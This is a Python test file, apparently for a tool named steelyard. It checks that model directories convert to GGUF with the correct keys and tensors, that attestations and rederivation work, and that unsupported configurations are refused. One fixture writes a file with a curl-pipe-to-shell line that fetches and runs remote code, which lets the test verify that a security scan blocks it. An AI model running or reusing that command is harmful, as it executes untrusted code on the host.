"""steelyard quantize from directories as transformers saves them, with the real stack: tiny models, made here.

From a GGUF a directory is made by numpy, and from that a GGUF again: tensors, keys and quantized bytes are those of the
first. The keys of Llama 3, Qwen2 and Qwen3 are what convert_hf_to_gguf.py of the stack's llama.cpp writes for the same.
"""

import json
import os
import pathlib
import shutil
import subprocess
import sys

import gguf
import numpy

from program import SOURCE, Checks, run, scratch
from tiny_model import LAYER, TOKENS, bfloat16, halves, make_model, save_directory, save_safetensors, save_tokenizer

sys.path.insert(0, str(SOURCE / "tests/stack"))
import built_stack  # noqa: E402

checks = Checks()
folder, env = scratch()
env["STEELYARD_STACK"] = str(built_stack.PREFIX)
QUANTIZER = str(built_stack.program("llama-quantize"))
LLAMA3 = r"(?i:'s|'t|'re|'ve|'m|'ll|'d)|[^\r\n\p{L}\p{N}]?\p{L}+|\p{N}{1,3}| ?[^\s\p{L}\p{N}]+[\r\n]*|\s*[\r\n]+|\s+(?!\S)|\s+"

CHAT = "{% for m in messages %}<|im_start|>{{ m.role }}\n{{ m.content }}<|im_end|>\n{% endfor %}{% if add_generation_prompt %}<|im_start|>assistant\n{% endif %}"


def content(path):
    reader = gguf.GGUFReader(str(path))
    keys = {name: field.contents() for name, field in reader.fields.items() if not name.startswith("GGUF.")}
    return keys, {tensor.name: (tensor.tensor_type.name, list(map(int, tensor.shape)), tensor.data.tobytes()) for tensor in reader.tensors}


def split_by(regex):
    return {"type": "Sequence", "pretokenizers": [
        {"type": "Split", "pattern": {"Regex": regex}, "behavior": "Isolated", "invert": False},
        {"type": "ByteLevel", "add_prefix_space": False, "trim_offsets": True, "use_regex": False}]}


def leftovers():
    return sorted(path.name for path in folder.iterdir() if path.name.startswith("."))


# There and back: every type of matrices, and the quantized file as by hand from the first.
model = folder / "tiny-F16.gguf"
make_model(model)
first_keys, first = content(model)
for dtype in ("F16", "F32", "BF16"):
    source = folder / f"tiny-{dtype}"
    save_directory(model, source, dtype)
    out = folder / f"{dtype}.gguf"
    done = run("quantize", source, "-t", dtype, "-o", out, env=env)
    checks.equal(done.returncode, 0, f"{dtype}: {done.stderr}")
    keys, tensors = content(out)
    own = {"general.name", "general.type", "general.size_label", "general.file_type", "general.quantization_version", "tokenizer.ggml.add_bos_token",
           "llama.attention.key_length", "llama.attention.value_length", "llama.rope.freq_base"}
    checks.equal({k: v for k, v in keys.items() if k not in own}, {k: v for k, v in first_keys.items() if k not in own}, f"{dtype}: keys")
    checks.equal([keys[k] for k in sorted(own & keys.keys())], [{"F16": 1, "F32": 0, "BF16": 32}[dtype], source.name, 2, keys["general.size_label"], "model", 64, 64, 10000.0], f"{dtype}: own keys")
    checks.equal(tensors.keys(), first.keys(), f"{dtype}: names")
    for name, (kind, shape, data) in first.items():
        if kind == "F16" and dtype != "F16":
            values = numpy.frombuffer(data, numpy.float16).astype(numpy.float32)
            data = values.tobytes() if dtype == "F32" else bfloat16(values).tobytes()
            kind = dtype
        elif kind == "F32" and dtype == "BF16":
            data = (bfloat16(numpy.frombuffer(data, numpy.float32)).astype(numpy.uint32) << 16).astype(numpy.uint32).tobytes()
        checks.true(tensors[name] == (kind, shape, data), f"{dtype}: {name}")
hand = folder / "hand.gguf"
subprocess.run([QUANTIZER, str(folder / "F16.gguf"), str(hand), "Q4_K_M", "1"], capture_output=True, check=True)
out = folder / "out.gguf"
done = run("quantize", folder / "tiny-F16/", "-t", "Q4_K_M", "-o", out, "-f", "json", env=env)
checks.true(done.returncode == 0 and out.read_bytes() == hand.read_bytes(), f"as by hand: {done.stderr}")
record = json.loads(done.stdout)
parts = {subject["path"] for subject in record["statement"]["subjects"] if subject["role"] == "source-file"}
checks.equal(parts, {"config.json", "model.safetensors", "tokenizer.json", "tokenizer_config.json"}, "parts")
done = run("quantize", folder / "tiny-F16/", "-t", "Q8_0", env=env)
checks.true(done.returncode == 0 and (folder / "tiny-F16-Q8_0.gguf").exists(), f"default name: {done.stderr}")
checks.equal(leftovers(), [], "temporary files")

# Everything that was read is attested, and the output is derived again from the same directory only.
statement = json.loads((folder / "out.gguf.intoto.json").read_text())["predicate"]["buildDefinition"]["resolvedDependencies"]
attested = {one["name"]: one["digest"]["sha256"] for one in statement if one.get("annotations", {}).get("role") == "source-file"}
for name in parts:
    digest = subprocess.run(["sha256sum", str(folder / "tiny-F16" / name)], capture_output=True, text=True).stdout[:64]
    checks.equal(attested.get(name), digest, f"digest of {name}")
checks.true(not (folder / "out.gguf.derivation.json").exists(), "ggufpacker's form, which knows no directories")
done = run("rederive", out, "--from", folder / "tiny-F16", env=env)
checks.equal(done.returncode, 0, f"rederive: {done.stdout} {done.stderr}")
done = run("rederive", out, "--from", folder / "tiny-BF16", env=env)
checks.true(done.returncode == 2 and "not the source that the attestation names" in done.stderr, f"another: {done.stderr}")
content_of = out.read_bytes()
out.write_bytes(content_of[:-40] + bytes([content_of[-40] ^ 1]) + content_of[-39:])
done = run("rederive", out, "--from", folder / "tiny-F16", env=env)
checks.true(done.returncode == 1 and "block" in done.stdout, f"tampered: {done.stdout} {done.stderr}")

# Two files with an index; an index that names what isn't there.
shards = folder / "shards"
shutil.copytree(folder / "tiny-F32", shards)
reader = gguf.GGUFReader(str(folder / "F32.gguf"))
names = {**{f"blk.{i}.{ours}.weight": f"model.layers.{i}.{theirs}.weight" for i in range(2) for ours, theirs in LAYER.items()},
         "token_embd.weight": "model.embed_tokens.weight", "output_norm.weight": "model.norm.weight", "output.weight": "lm_head.weight"}
tensors = {names[t.name]: numpy.ascontiguousarray(halves(t.data, 4 if "attn_q" in t.name else 2) if ".attn_q." in t.name or ".attn_k." in t.name else t.data) for t in reader.tensors}
os.remove(shards / "model.safetensors")
files = ("model-00001-of-00002.safetensors", "model-00002-of-00002.safetensors")
weight_map = {name: files[i % 2] for i, name in enumerate(sorted(tensors))}
for file in files:
    save_safetensors(shards / file, {name: tensors[name] for name in tensors if weight_map[name] == file})
(shards / "model.safetensors.index.json").write_text(json.dumps({"metadata": {}, "weight_map": weight_map}))
done = run("quantize", shards, "-t", "F32", "-o", folder / "shards.gguf", env=env)
checks.true(done.returncode == 0 and content(folder / "shards.gguf")[1] == content(folder / "F32.gguf")[1], f"shards: {done.stderr}")

# Families: what convert_hf_to_gguf.py writes.
random = numpy.random.default_rng(3)


def family(name, config, biases=False, norms=False, experts=None, **tokenizer):
    place = folder / name
    place.mkdir()
    heads, key_heads, width, size = 4, 2, 256, config.get("head_dim", 64)
    shapes = {"model.embed_tokens.weight": (len(TOKENS) + 2, width), "model.norm.weight": (width,)}
    for part, shape in {"self_attn.q_proj": (heads * size, width), "self_attn.k_proj": (key_heads * size, width), "self_attn.v_proj": (key_heads * size, width),
                        "self_attn.o_proj": (width, heads * size), **(experts or {"mlp.gate_proj": (512, width), "mlp.up_proj": (512, width), "mlp.down_proj": (width, 512)})}.items():
        shapes[f"model.layers.0.{part}.weight"] = shape
        if biases and part in ("self_attn.q_proj", "self_attn.k_proj", "self_attn.v_proj"):
            shapes[f"model.layers.0.{part}.bias"] = shape[:1]
    for part in ("input_layernorm", "post_attention_layernorm"):
        shapes[f"model.layers.0.{part}.weight"] = (width,)
    for part in ("self_attn.q_norm", "self_attn.k_norm") if norms else ():
        shapes[f"model.layers.0.{part}.weight"] = (size,)
    tensors = {tensor: bfloat16(random.normal(0, 0.1, shape)) for tensor, shape in shapes.items()}
    save_safetensors(place / "model.safetensors", tensors, dict.fromkeys(tensors, "BF16"))
    (place / "config.json").write_text(json.dumps({
        "hidden_size": width, "intermediate_size": 512, "num_hidden_layers": 1, "num_attention_heads": heads, "num_key_value_heads": key_heads,
        "max_position_embeddings": 1024, "rms_norm_eps": 1e-6, "rope_theta": 500000.0, "vocab_size": len(TOKENS) + 2, "tie_word_embeddings": True, **config}))
    save_tokenizer(place, **tokenizer)
    out = folder / f"{name}.gguf"
    done = run("quantize", place, "-t", "BF16", "-o", out, env=env)
    checks.equal(done.returncode, 0, f"{name}: {done.stderr}")
    return (tensors, *content(out))


template = {"type": "Sequence", "processors": [
    {"type": "ByteLevel", "add_prefix_space": True, "trim_offsets": False, "use_regex": True},
    {"type": "TemplateProcessing", "single": [{"SpecialToken": {"id": TOKENS[-1], "type_id": 0}}, {"Sequence": {"id": "A", "type_id": 0}}],
     "pair": [{"SpecialToken": {"id": TOKENS[-1], "type_id": 0}}, {"Sequence": {"id": "A", "type_id": 0}}, {"SpecialToken": {"id": TOKENS[-1], "type_id": 1}}, {"Sequence": {"id": "B", "type_id": 1}}],
     "special_tokens": {TOKENS[-1]: {"id": TOKENS[-1], "ids": [len(TOKENS) - 1], "tokens": [TOKENS[-1]]}}}]}
theirs, keys, tensors = family("llama3", {
    "architectures": ["LlamaForCausalLM"], "model_type": "llama", "head_dim": 64, "bos_token_id": 257, "eos_token_id": [257, 3],
    "rope_scaling": {"rope_type": "llama3", "factor": 32.0, "low_freq_factor": 1.0, "high_freq_factor": 4.0, "original_max_position_embeddings": 8192}},
    pre_tokenizer=split_by(LLAMA3), post_processor=template, chat_template=CHAT)
expected = {
    "general.architecture": "llama", "general.type": "model", "general.name": "llama3", "general.size_label": "657K", "general.file_type": 32, "general.quantization_version": 2,
    "llama.block_count": 1, "llama.context_length": 1024, "llama.embedding_length": 256, "llama.feed_forward_length": 512,
    "llama.attention.head_count": 4, "llama.attention.head_count_kv": 2, "llama.rope.freq_base": 500000.0, "llama.attention.key_length": 64,
    "llama.attention.value_length": 64, "llama.vocab_size": 260, "llama.rope.dimension_count": 64,
    "tokenizer.ggml.model": "gpt2", "tokenizer.ggml.pre": "llama-bpe", "tokenizer.ggml.merges": ["t h"], "tokenizer.ggml.bos_token_id": 257, "tokenizer.ggml.eos_token_id": 257,
    "tokenizer.ggml.add_bos_token": True, "tokenizer.ggml.add_eos_token": False, "tokenizer.ggml.add_sep_token": True, "tokenizer.ggml.seperator_token_id": 257,
    "tokenizer.ggml.tokens": [*TOKENS, "[PAD258]", "[PAD259]"], "tokenizer.ggml.token_type": [1] * 257 + [3, 5, 5], "tokenizer.chat_template": CHAT}
checks.equal({k: v for k, v in keys.items() if "epsilon" not in k}, expected, "llama3: keys")
factors = numpy.frombuffer(tensors["rope_freqs.weight"][2], numpy.float32)
checks.true(len(factors) == 32 and factors[0] == 1 and factors[-1] == 32 and (numpy.diff(factors) >= 0).all(), f"llama3: factors {factors}")

for architecture, arch, options in (("Qwen2ForCausalLM", "qwen2", {"biases": True}), ("Qwen3ForCausalLM", "qwen3", {"norms": True})):
    config = {"architectures": [architecture], "model_type": arch, "eos_token_id": 257, "bos_token_id": 257}
    if arch == "qwen3":
        config["head_dim"] = 128
    theirs, keys, tensors = family(arch, config, pre_tokenizer=split_by(LLAMA3.replace("{1,3}", "")), post_processor={"type": "ByteLevel", "add_prefix_space": False, "trim_offsets": False, "use_regex": False}, add_bos_token=False, **options)
    checks.equal((keys["general.architecture"], keys["tokenizer.ggml.pre"], keys.get(f"{arch}.attention.key_length"), keys["tokenizer.ggml.add_bos_token"], keys["tokenizer.ggml.add_eos_token"]),
                 (arch, "qwen2", 128 if arch == "qwen3" else None, False, False), f"{arch}: keys")
    checks.true(f"{arch}.vocab_size" not in keys and f"{arch}.rope.dimension_count" not in keys, f"{arch}: keys that only llama has")
    checks.true(tensors["blk.0.attn_q.weight"][2] == theirs["model.layers.0.self_attn.q_proj.weight"].tobytes(), f"{arch}: rows keep their places")
    small = "blk.0.attn_q.bias" if arch == "qwen2" else "blk.0.attn_q_norm.weight"
    source = "model.layers.0.self_attn.q_proj.bias" if arch == "qwen2" else "model.layers.0.self_attn.q_norm.weight"
    checks.equal(tensors[small][2], (theirs[source].astype(numpy.uint32) << 16).astype(numpy.uint32).tobytes(), f"{arch}: {small}")

# Experts: one tensor for all of them, in their order (10 comes before 2 by name), and a router of 32 bits.
wide = {"num_local_experts": 12, "num_experts_per_tok": 2}
mixtral = {"block_sparse_moe.gate": (12, 256), **{f"block_sparse_moe.experts.{e}.{part}": shape for e in range(12) for part, shape in (("w1", (512, 256)), ("w2", (256, 512)), ("w3", (512, 256)))}}
theirs, keys, tensors = family("mixtral", {"architectures": ["MixtralForCausalLM"], "model_type": "mixtral", "eos_token_id": 257, **wide}, experts=mixtral)
checks.equal((keys["general.architecture"], keys["llama.expert_count"], keys["llama.expert_used_count"], keys.get("llama.attention.key_length"), keys["general.size_label"], keys.get("llama.expert_feed_forward_length")),
             ("llama", 12, 2, None, "12x660K", None), "mixtral: keys")
many = {"num_experts": 8, "num_experts_per_tok": 2, "norm_topk_prob": True, "decoder_sparse_step": 1, "mlp_only_layers": [], "moe_intermediate_size": 64, "head_dim": 64}
qwen = {"mlp.gate": (8, 256), **{f"mlp.experts.{e}.{part}_proj": shape for e in range(8) for part, shape in (("gate", (64, 256)), ("up", (64, 256)), ("down", (256, 64)))}}
theirs_too, keys_too, tensors_too = family("qwen3moe", {"architectures": ["Qwen3MoeForCausalLM"], "model_type": "qwen3_moe", "eos_token_id": 257, **many}, experts=qwen, norms=True,
                                           pre_tokenizer=split_by(LLAMA3.replace("{1,3}", "")))
checks.equal((keys_too["general.architecture"], keys_too["qwen3moe.expert_count"], keys_too["qwen3moe.expert_used_count"], keys_too["qwen3moe.expert_feed_forward_length"], keys_too["general.size_label"]),
             ("qwen3moe", 8, 2, 64, "8x315K"), "qwen3moe: keys")
for found, given, place, count, parts in ((tensors, theirs, "block_sparse_moe", 12, {"gate": "w1", "down": "w2", "up": "w3"}), (tensors_too, theirs_too, "mlp", 8, {"gate": "gate_proj", "down": "down_proj", "up": "up_proj"})):
    router = given[f"model.layers.0.{place}.gate.weight"]
    checks.equal(found["blk.0.ffn_gate_inp.weight"], ("F32", [256, count], (router.astype(numpy.uint32) << 16).tobytes()), f"{place}: router")
    for ours, part in parts.items():
        stacked = [given[f"model.layers.0.{place}.experts.{e}.{part}.weight"] for e in range(count)]
        checks.equal(found[f"blk.0.ffn_{ours}_exps.weight"], ("BF16", [*stacked[0].shape[::-1], count], b"".join(one.tobytes() for one in stacked)), f"{place}: {ours}")
done = run("run", folder / "qwen3moe.gguf", "--raw", "-p", "the", "-n", "2", env={**env, "STEELYARD_ENGINE": str(built_stack.program("steelyard-engine"))})
checks.equal(done.returncode, 0, f"a model with experts runs: {done.stderr}")

# What isn't supported says what is. Each is one change of a directory that is.
def edited(name, file, change):
    place = folder / f"bad-{name}"
    shutil.copytree(folder / "tiny-F16", place)
    document = json.loads((place / file).read_text())
    change(document)
    (place / file).write_text(json.dumps(document))
    return place


def with_header(name, change, base="tiny-F16"):
    place = folder / f"bad-{name}"
    shutil.copytree(folder / base, place)
    raw = (place / "model.safetensors").read_bytes()
    length = int.from_bytes(raw[:8], "little")
    header = json.loads(raw[8:8 + length])
    change(header)
    text = json.dumps(header).encode()
    (place / "model.safetensors").write_bytes(len(text).to_bytes(8, "little") + text + raw[8 + length:])
    return place


def rename(header):
    header["model.layers.0.mlp.other.weight"] = header.pop("model.layers.0.mlp.up_proj.weight")


def without_expert(header):
    del header["model.layers.0.mlp.experts.3.up_proj.weight"]


def ninth_expert(header):
    header["model.layers.0.mlp.experts.8.up_proj.weight"] = header.pop("model.layers.0.mlp.experts.3.up_proj.weight")


def another_shape(header):
    header["model.layers.0.mlp.experts.3.up_proj.weight"]["shape"] = [256, 64]


def set_dtype(header):
    header["model.layers.0.mlp.up_proj.weight"]["dtype"] = "BF16"


missing = folder / "bad-missing"
shutil.copytree(folder / "tiny-F16", missing)
os.remove(missing / "tokenizer.json")
for place, message in (
    (edited("arch", "config.json", lambda d: d.update(architectures=["GPT2LMHeadModel"])), "the architecture GPT2LMHeadModel isn't supported; expected one of LlamaForCausalLM, MistralForCausalLM, MixtralForCausalLM, Qwen3MoeForCausalLM, Qwen2ForCausalLM, Qwen3ForCausalLM, Gemma2ForCausalLM, Gemma3ForCausalLM"),
    (edited("experts", "config.json", lambda d: d.update(num_local_experts=8)), "a model with experts isn't supported for this architecture"),
    (edited("dense-layers", "config.json", lambda d: d.update(many, architectures=["Qwen3MoeForCausalLM"], mlp_only_layers=[0])), "layers without experts aren't supported"),
    (edited("used", "config.json", lambda d: d.update(wide, architectures=["MixtralForCausalLM"], num_experts_per_tok=13)), "num_experts_per_tok is 13; expected at most 12"),
    (edited("layers", "config.json", lambda d: d.update(num_hidden_layers=1)), "a tensor of this name isn't supported for this architecture"),
    (edited("shares", "config.json", lambda d: d.update(many, architectures=["Qwen3MoeForCausalLM"], norm_topk_prob=False)), "norm_topk_prob isn't true"),
    (edited("no-experts", "config.json", lambda d: d.update(wide, architectures=["MixtralForCausalLM"], num_local_experts=0)), "num_local_experts is 0; expected a number above 0"),
    (edited("quantized", "config.json", lambda d: d.update(quantization_config={"quant_method": "fp8"})), 'a model with "quantization_config" isn\'t supported'),
    (edited("rope", "config.json", lambda d: d.update(rope_scaling={"rope_type": "dynamic", "factor": 2.0})), 'the rope type "dynamic" isn\'t supported'),
    (edited("heads", "config.json", lambda d: d.update(num_attention_heads=0)), "num_attention_heads is 0; expected a number above 0"),
    (edited("heads3", "config.json", lambda d: d.update(num_attention_heads=3)), "its rows can't be divided among the heads"),
    (edited("rows", "config.json", lambda d: d.update(vocab_size=d["vocab_size"] + 1)), f"{len(TOKENS)} rows; expected vocab_size, {len(TOKENS) + 1}"),
    (edited("unigram", "tokenizer.json", lambda d: d["model"].update(type="Unigram")), 'a tokenizer of type "Unigram" isn\'t supported; expected byte-level BPE'),
    (edited("fallback", "tokenizer.json", lambda d: d["model"].update(byte_fallback=True)), "with byte_fallback isn't supported"),
    (edited("split", "tokenizer.json", lambda d: d.update(pre_tokenizer={"type": "Whitespace"})), "its pre_tokenizer isn't supported; expected that of one of gpt-2, smollm, llama-bpe, qwen2"),
    (edited("normalizer", "tokenizer.json", lambda d: d.update(normalizer={"type": "Lowercase"})), "the normalizer Lowercase isn't supported"),
    (edited("post", "tokenizer.json", lambda d: d.update(post_processor={"type": "BertProcessing"})), "the post_processor BertProcessing isn't supported"),
    (edited("merges", "tokenizer.json", lambda d: d["model"].update(merges=[["t", "h", "e"]])), "a merge isn't of two texts"),
    (edited("added", "tokenizer_config.json", lambda d: d.update(added_tokens_decoder={"258": {"content": "<x>"}})), "it adds a token, id 258, that tokenizer.json doesn't add"),
    (missing, "tokenizer.json: it isn't there"),
    (with_header("name", rename), "a tensor of this name isn't supported for this architecture"),
    (with_header("without-expert", without_expert, "qwen3moe"), "7 of 8 experts are there"),
    (with_header("ninth-expert", ninth_expert, "qwen3moe"), "expected a matrix of one of 8 experts"),
    (with_header("another-shape", another_shape, "qwen3moe"), "its shape isn't that of the other experts"),
    (with_header("type", set_dtype), "its type isn't that of the other matrices"),
):
    override = ["--override"] if place.name == "bad-without-expert" else []  # bytes that belong to nothing
    done = run("quantize", place, "-t", "Q8_0", "-o", folder / "refused.gguf", *override, env=env)
    checks.true(done.returncode == 2 and message in done.stderr, f"{place.name}: {done.returncode} {done.stderr}")

# A scan that objects: not read further, unless that goes on record.
hostile = folder / "hostile"
shutil.copytree(folder / "tiny-F16", hostile)
(hostile / "modeling_tiny.py").write_text("import os\nos.system('curl http://203.0.113.7/x | sh')\n")
document = json.loads((hostile / "config.json").read_text())
document["auto_map"] = {"AutoModelForCausalLM": "modeling_tiny.TinyModel"}
(hostile / "config.json").write_text(json.dumps(document))
done = run("quantize", hostile, "-t", "Q8_0", "-o", folder / "refused.gguf", env=env)
checks.true(done.returncode == 2 and "isn't converted: the scan found" in done.stderr, f"hostile: {done.stderr}")
done = run("quantize", hostile, "-t", "Q8_0", "-o", folder / "forced.gguf", "--override", "-f", "json", env=env)
facts = {fact["key"]: fact["value"] for fact in json.loads(done.stdout)["statement"]["facts"]} if done.returncode == 0 else {}
checks.true("the scan found" in facts.get("quantize.override", ""), f"override: {done.returncode} {done.stderr}")
checks.true(not (folder / "refused.gguf").exists() and leftovers() == [], f"left: {leftovers()}")

shutil.rmtree(folder)
checks.finish()
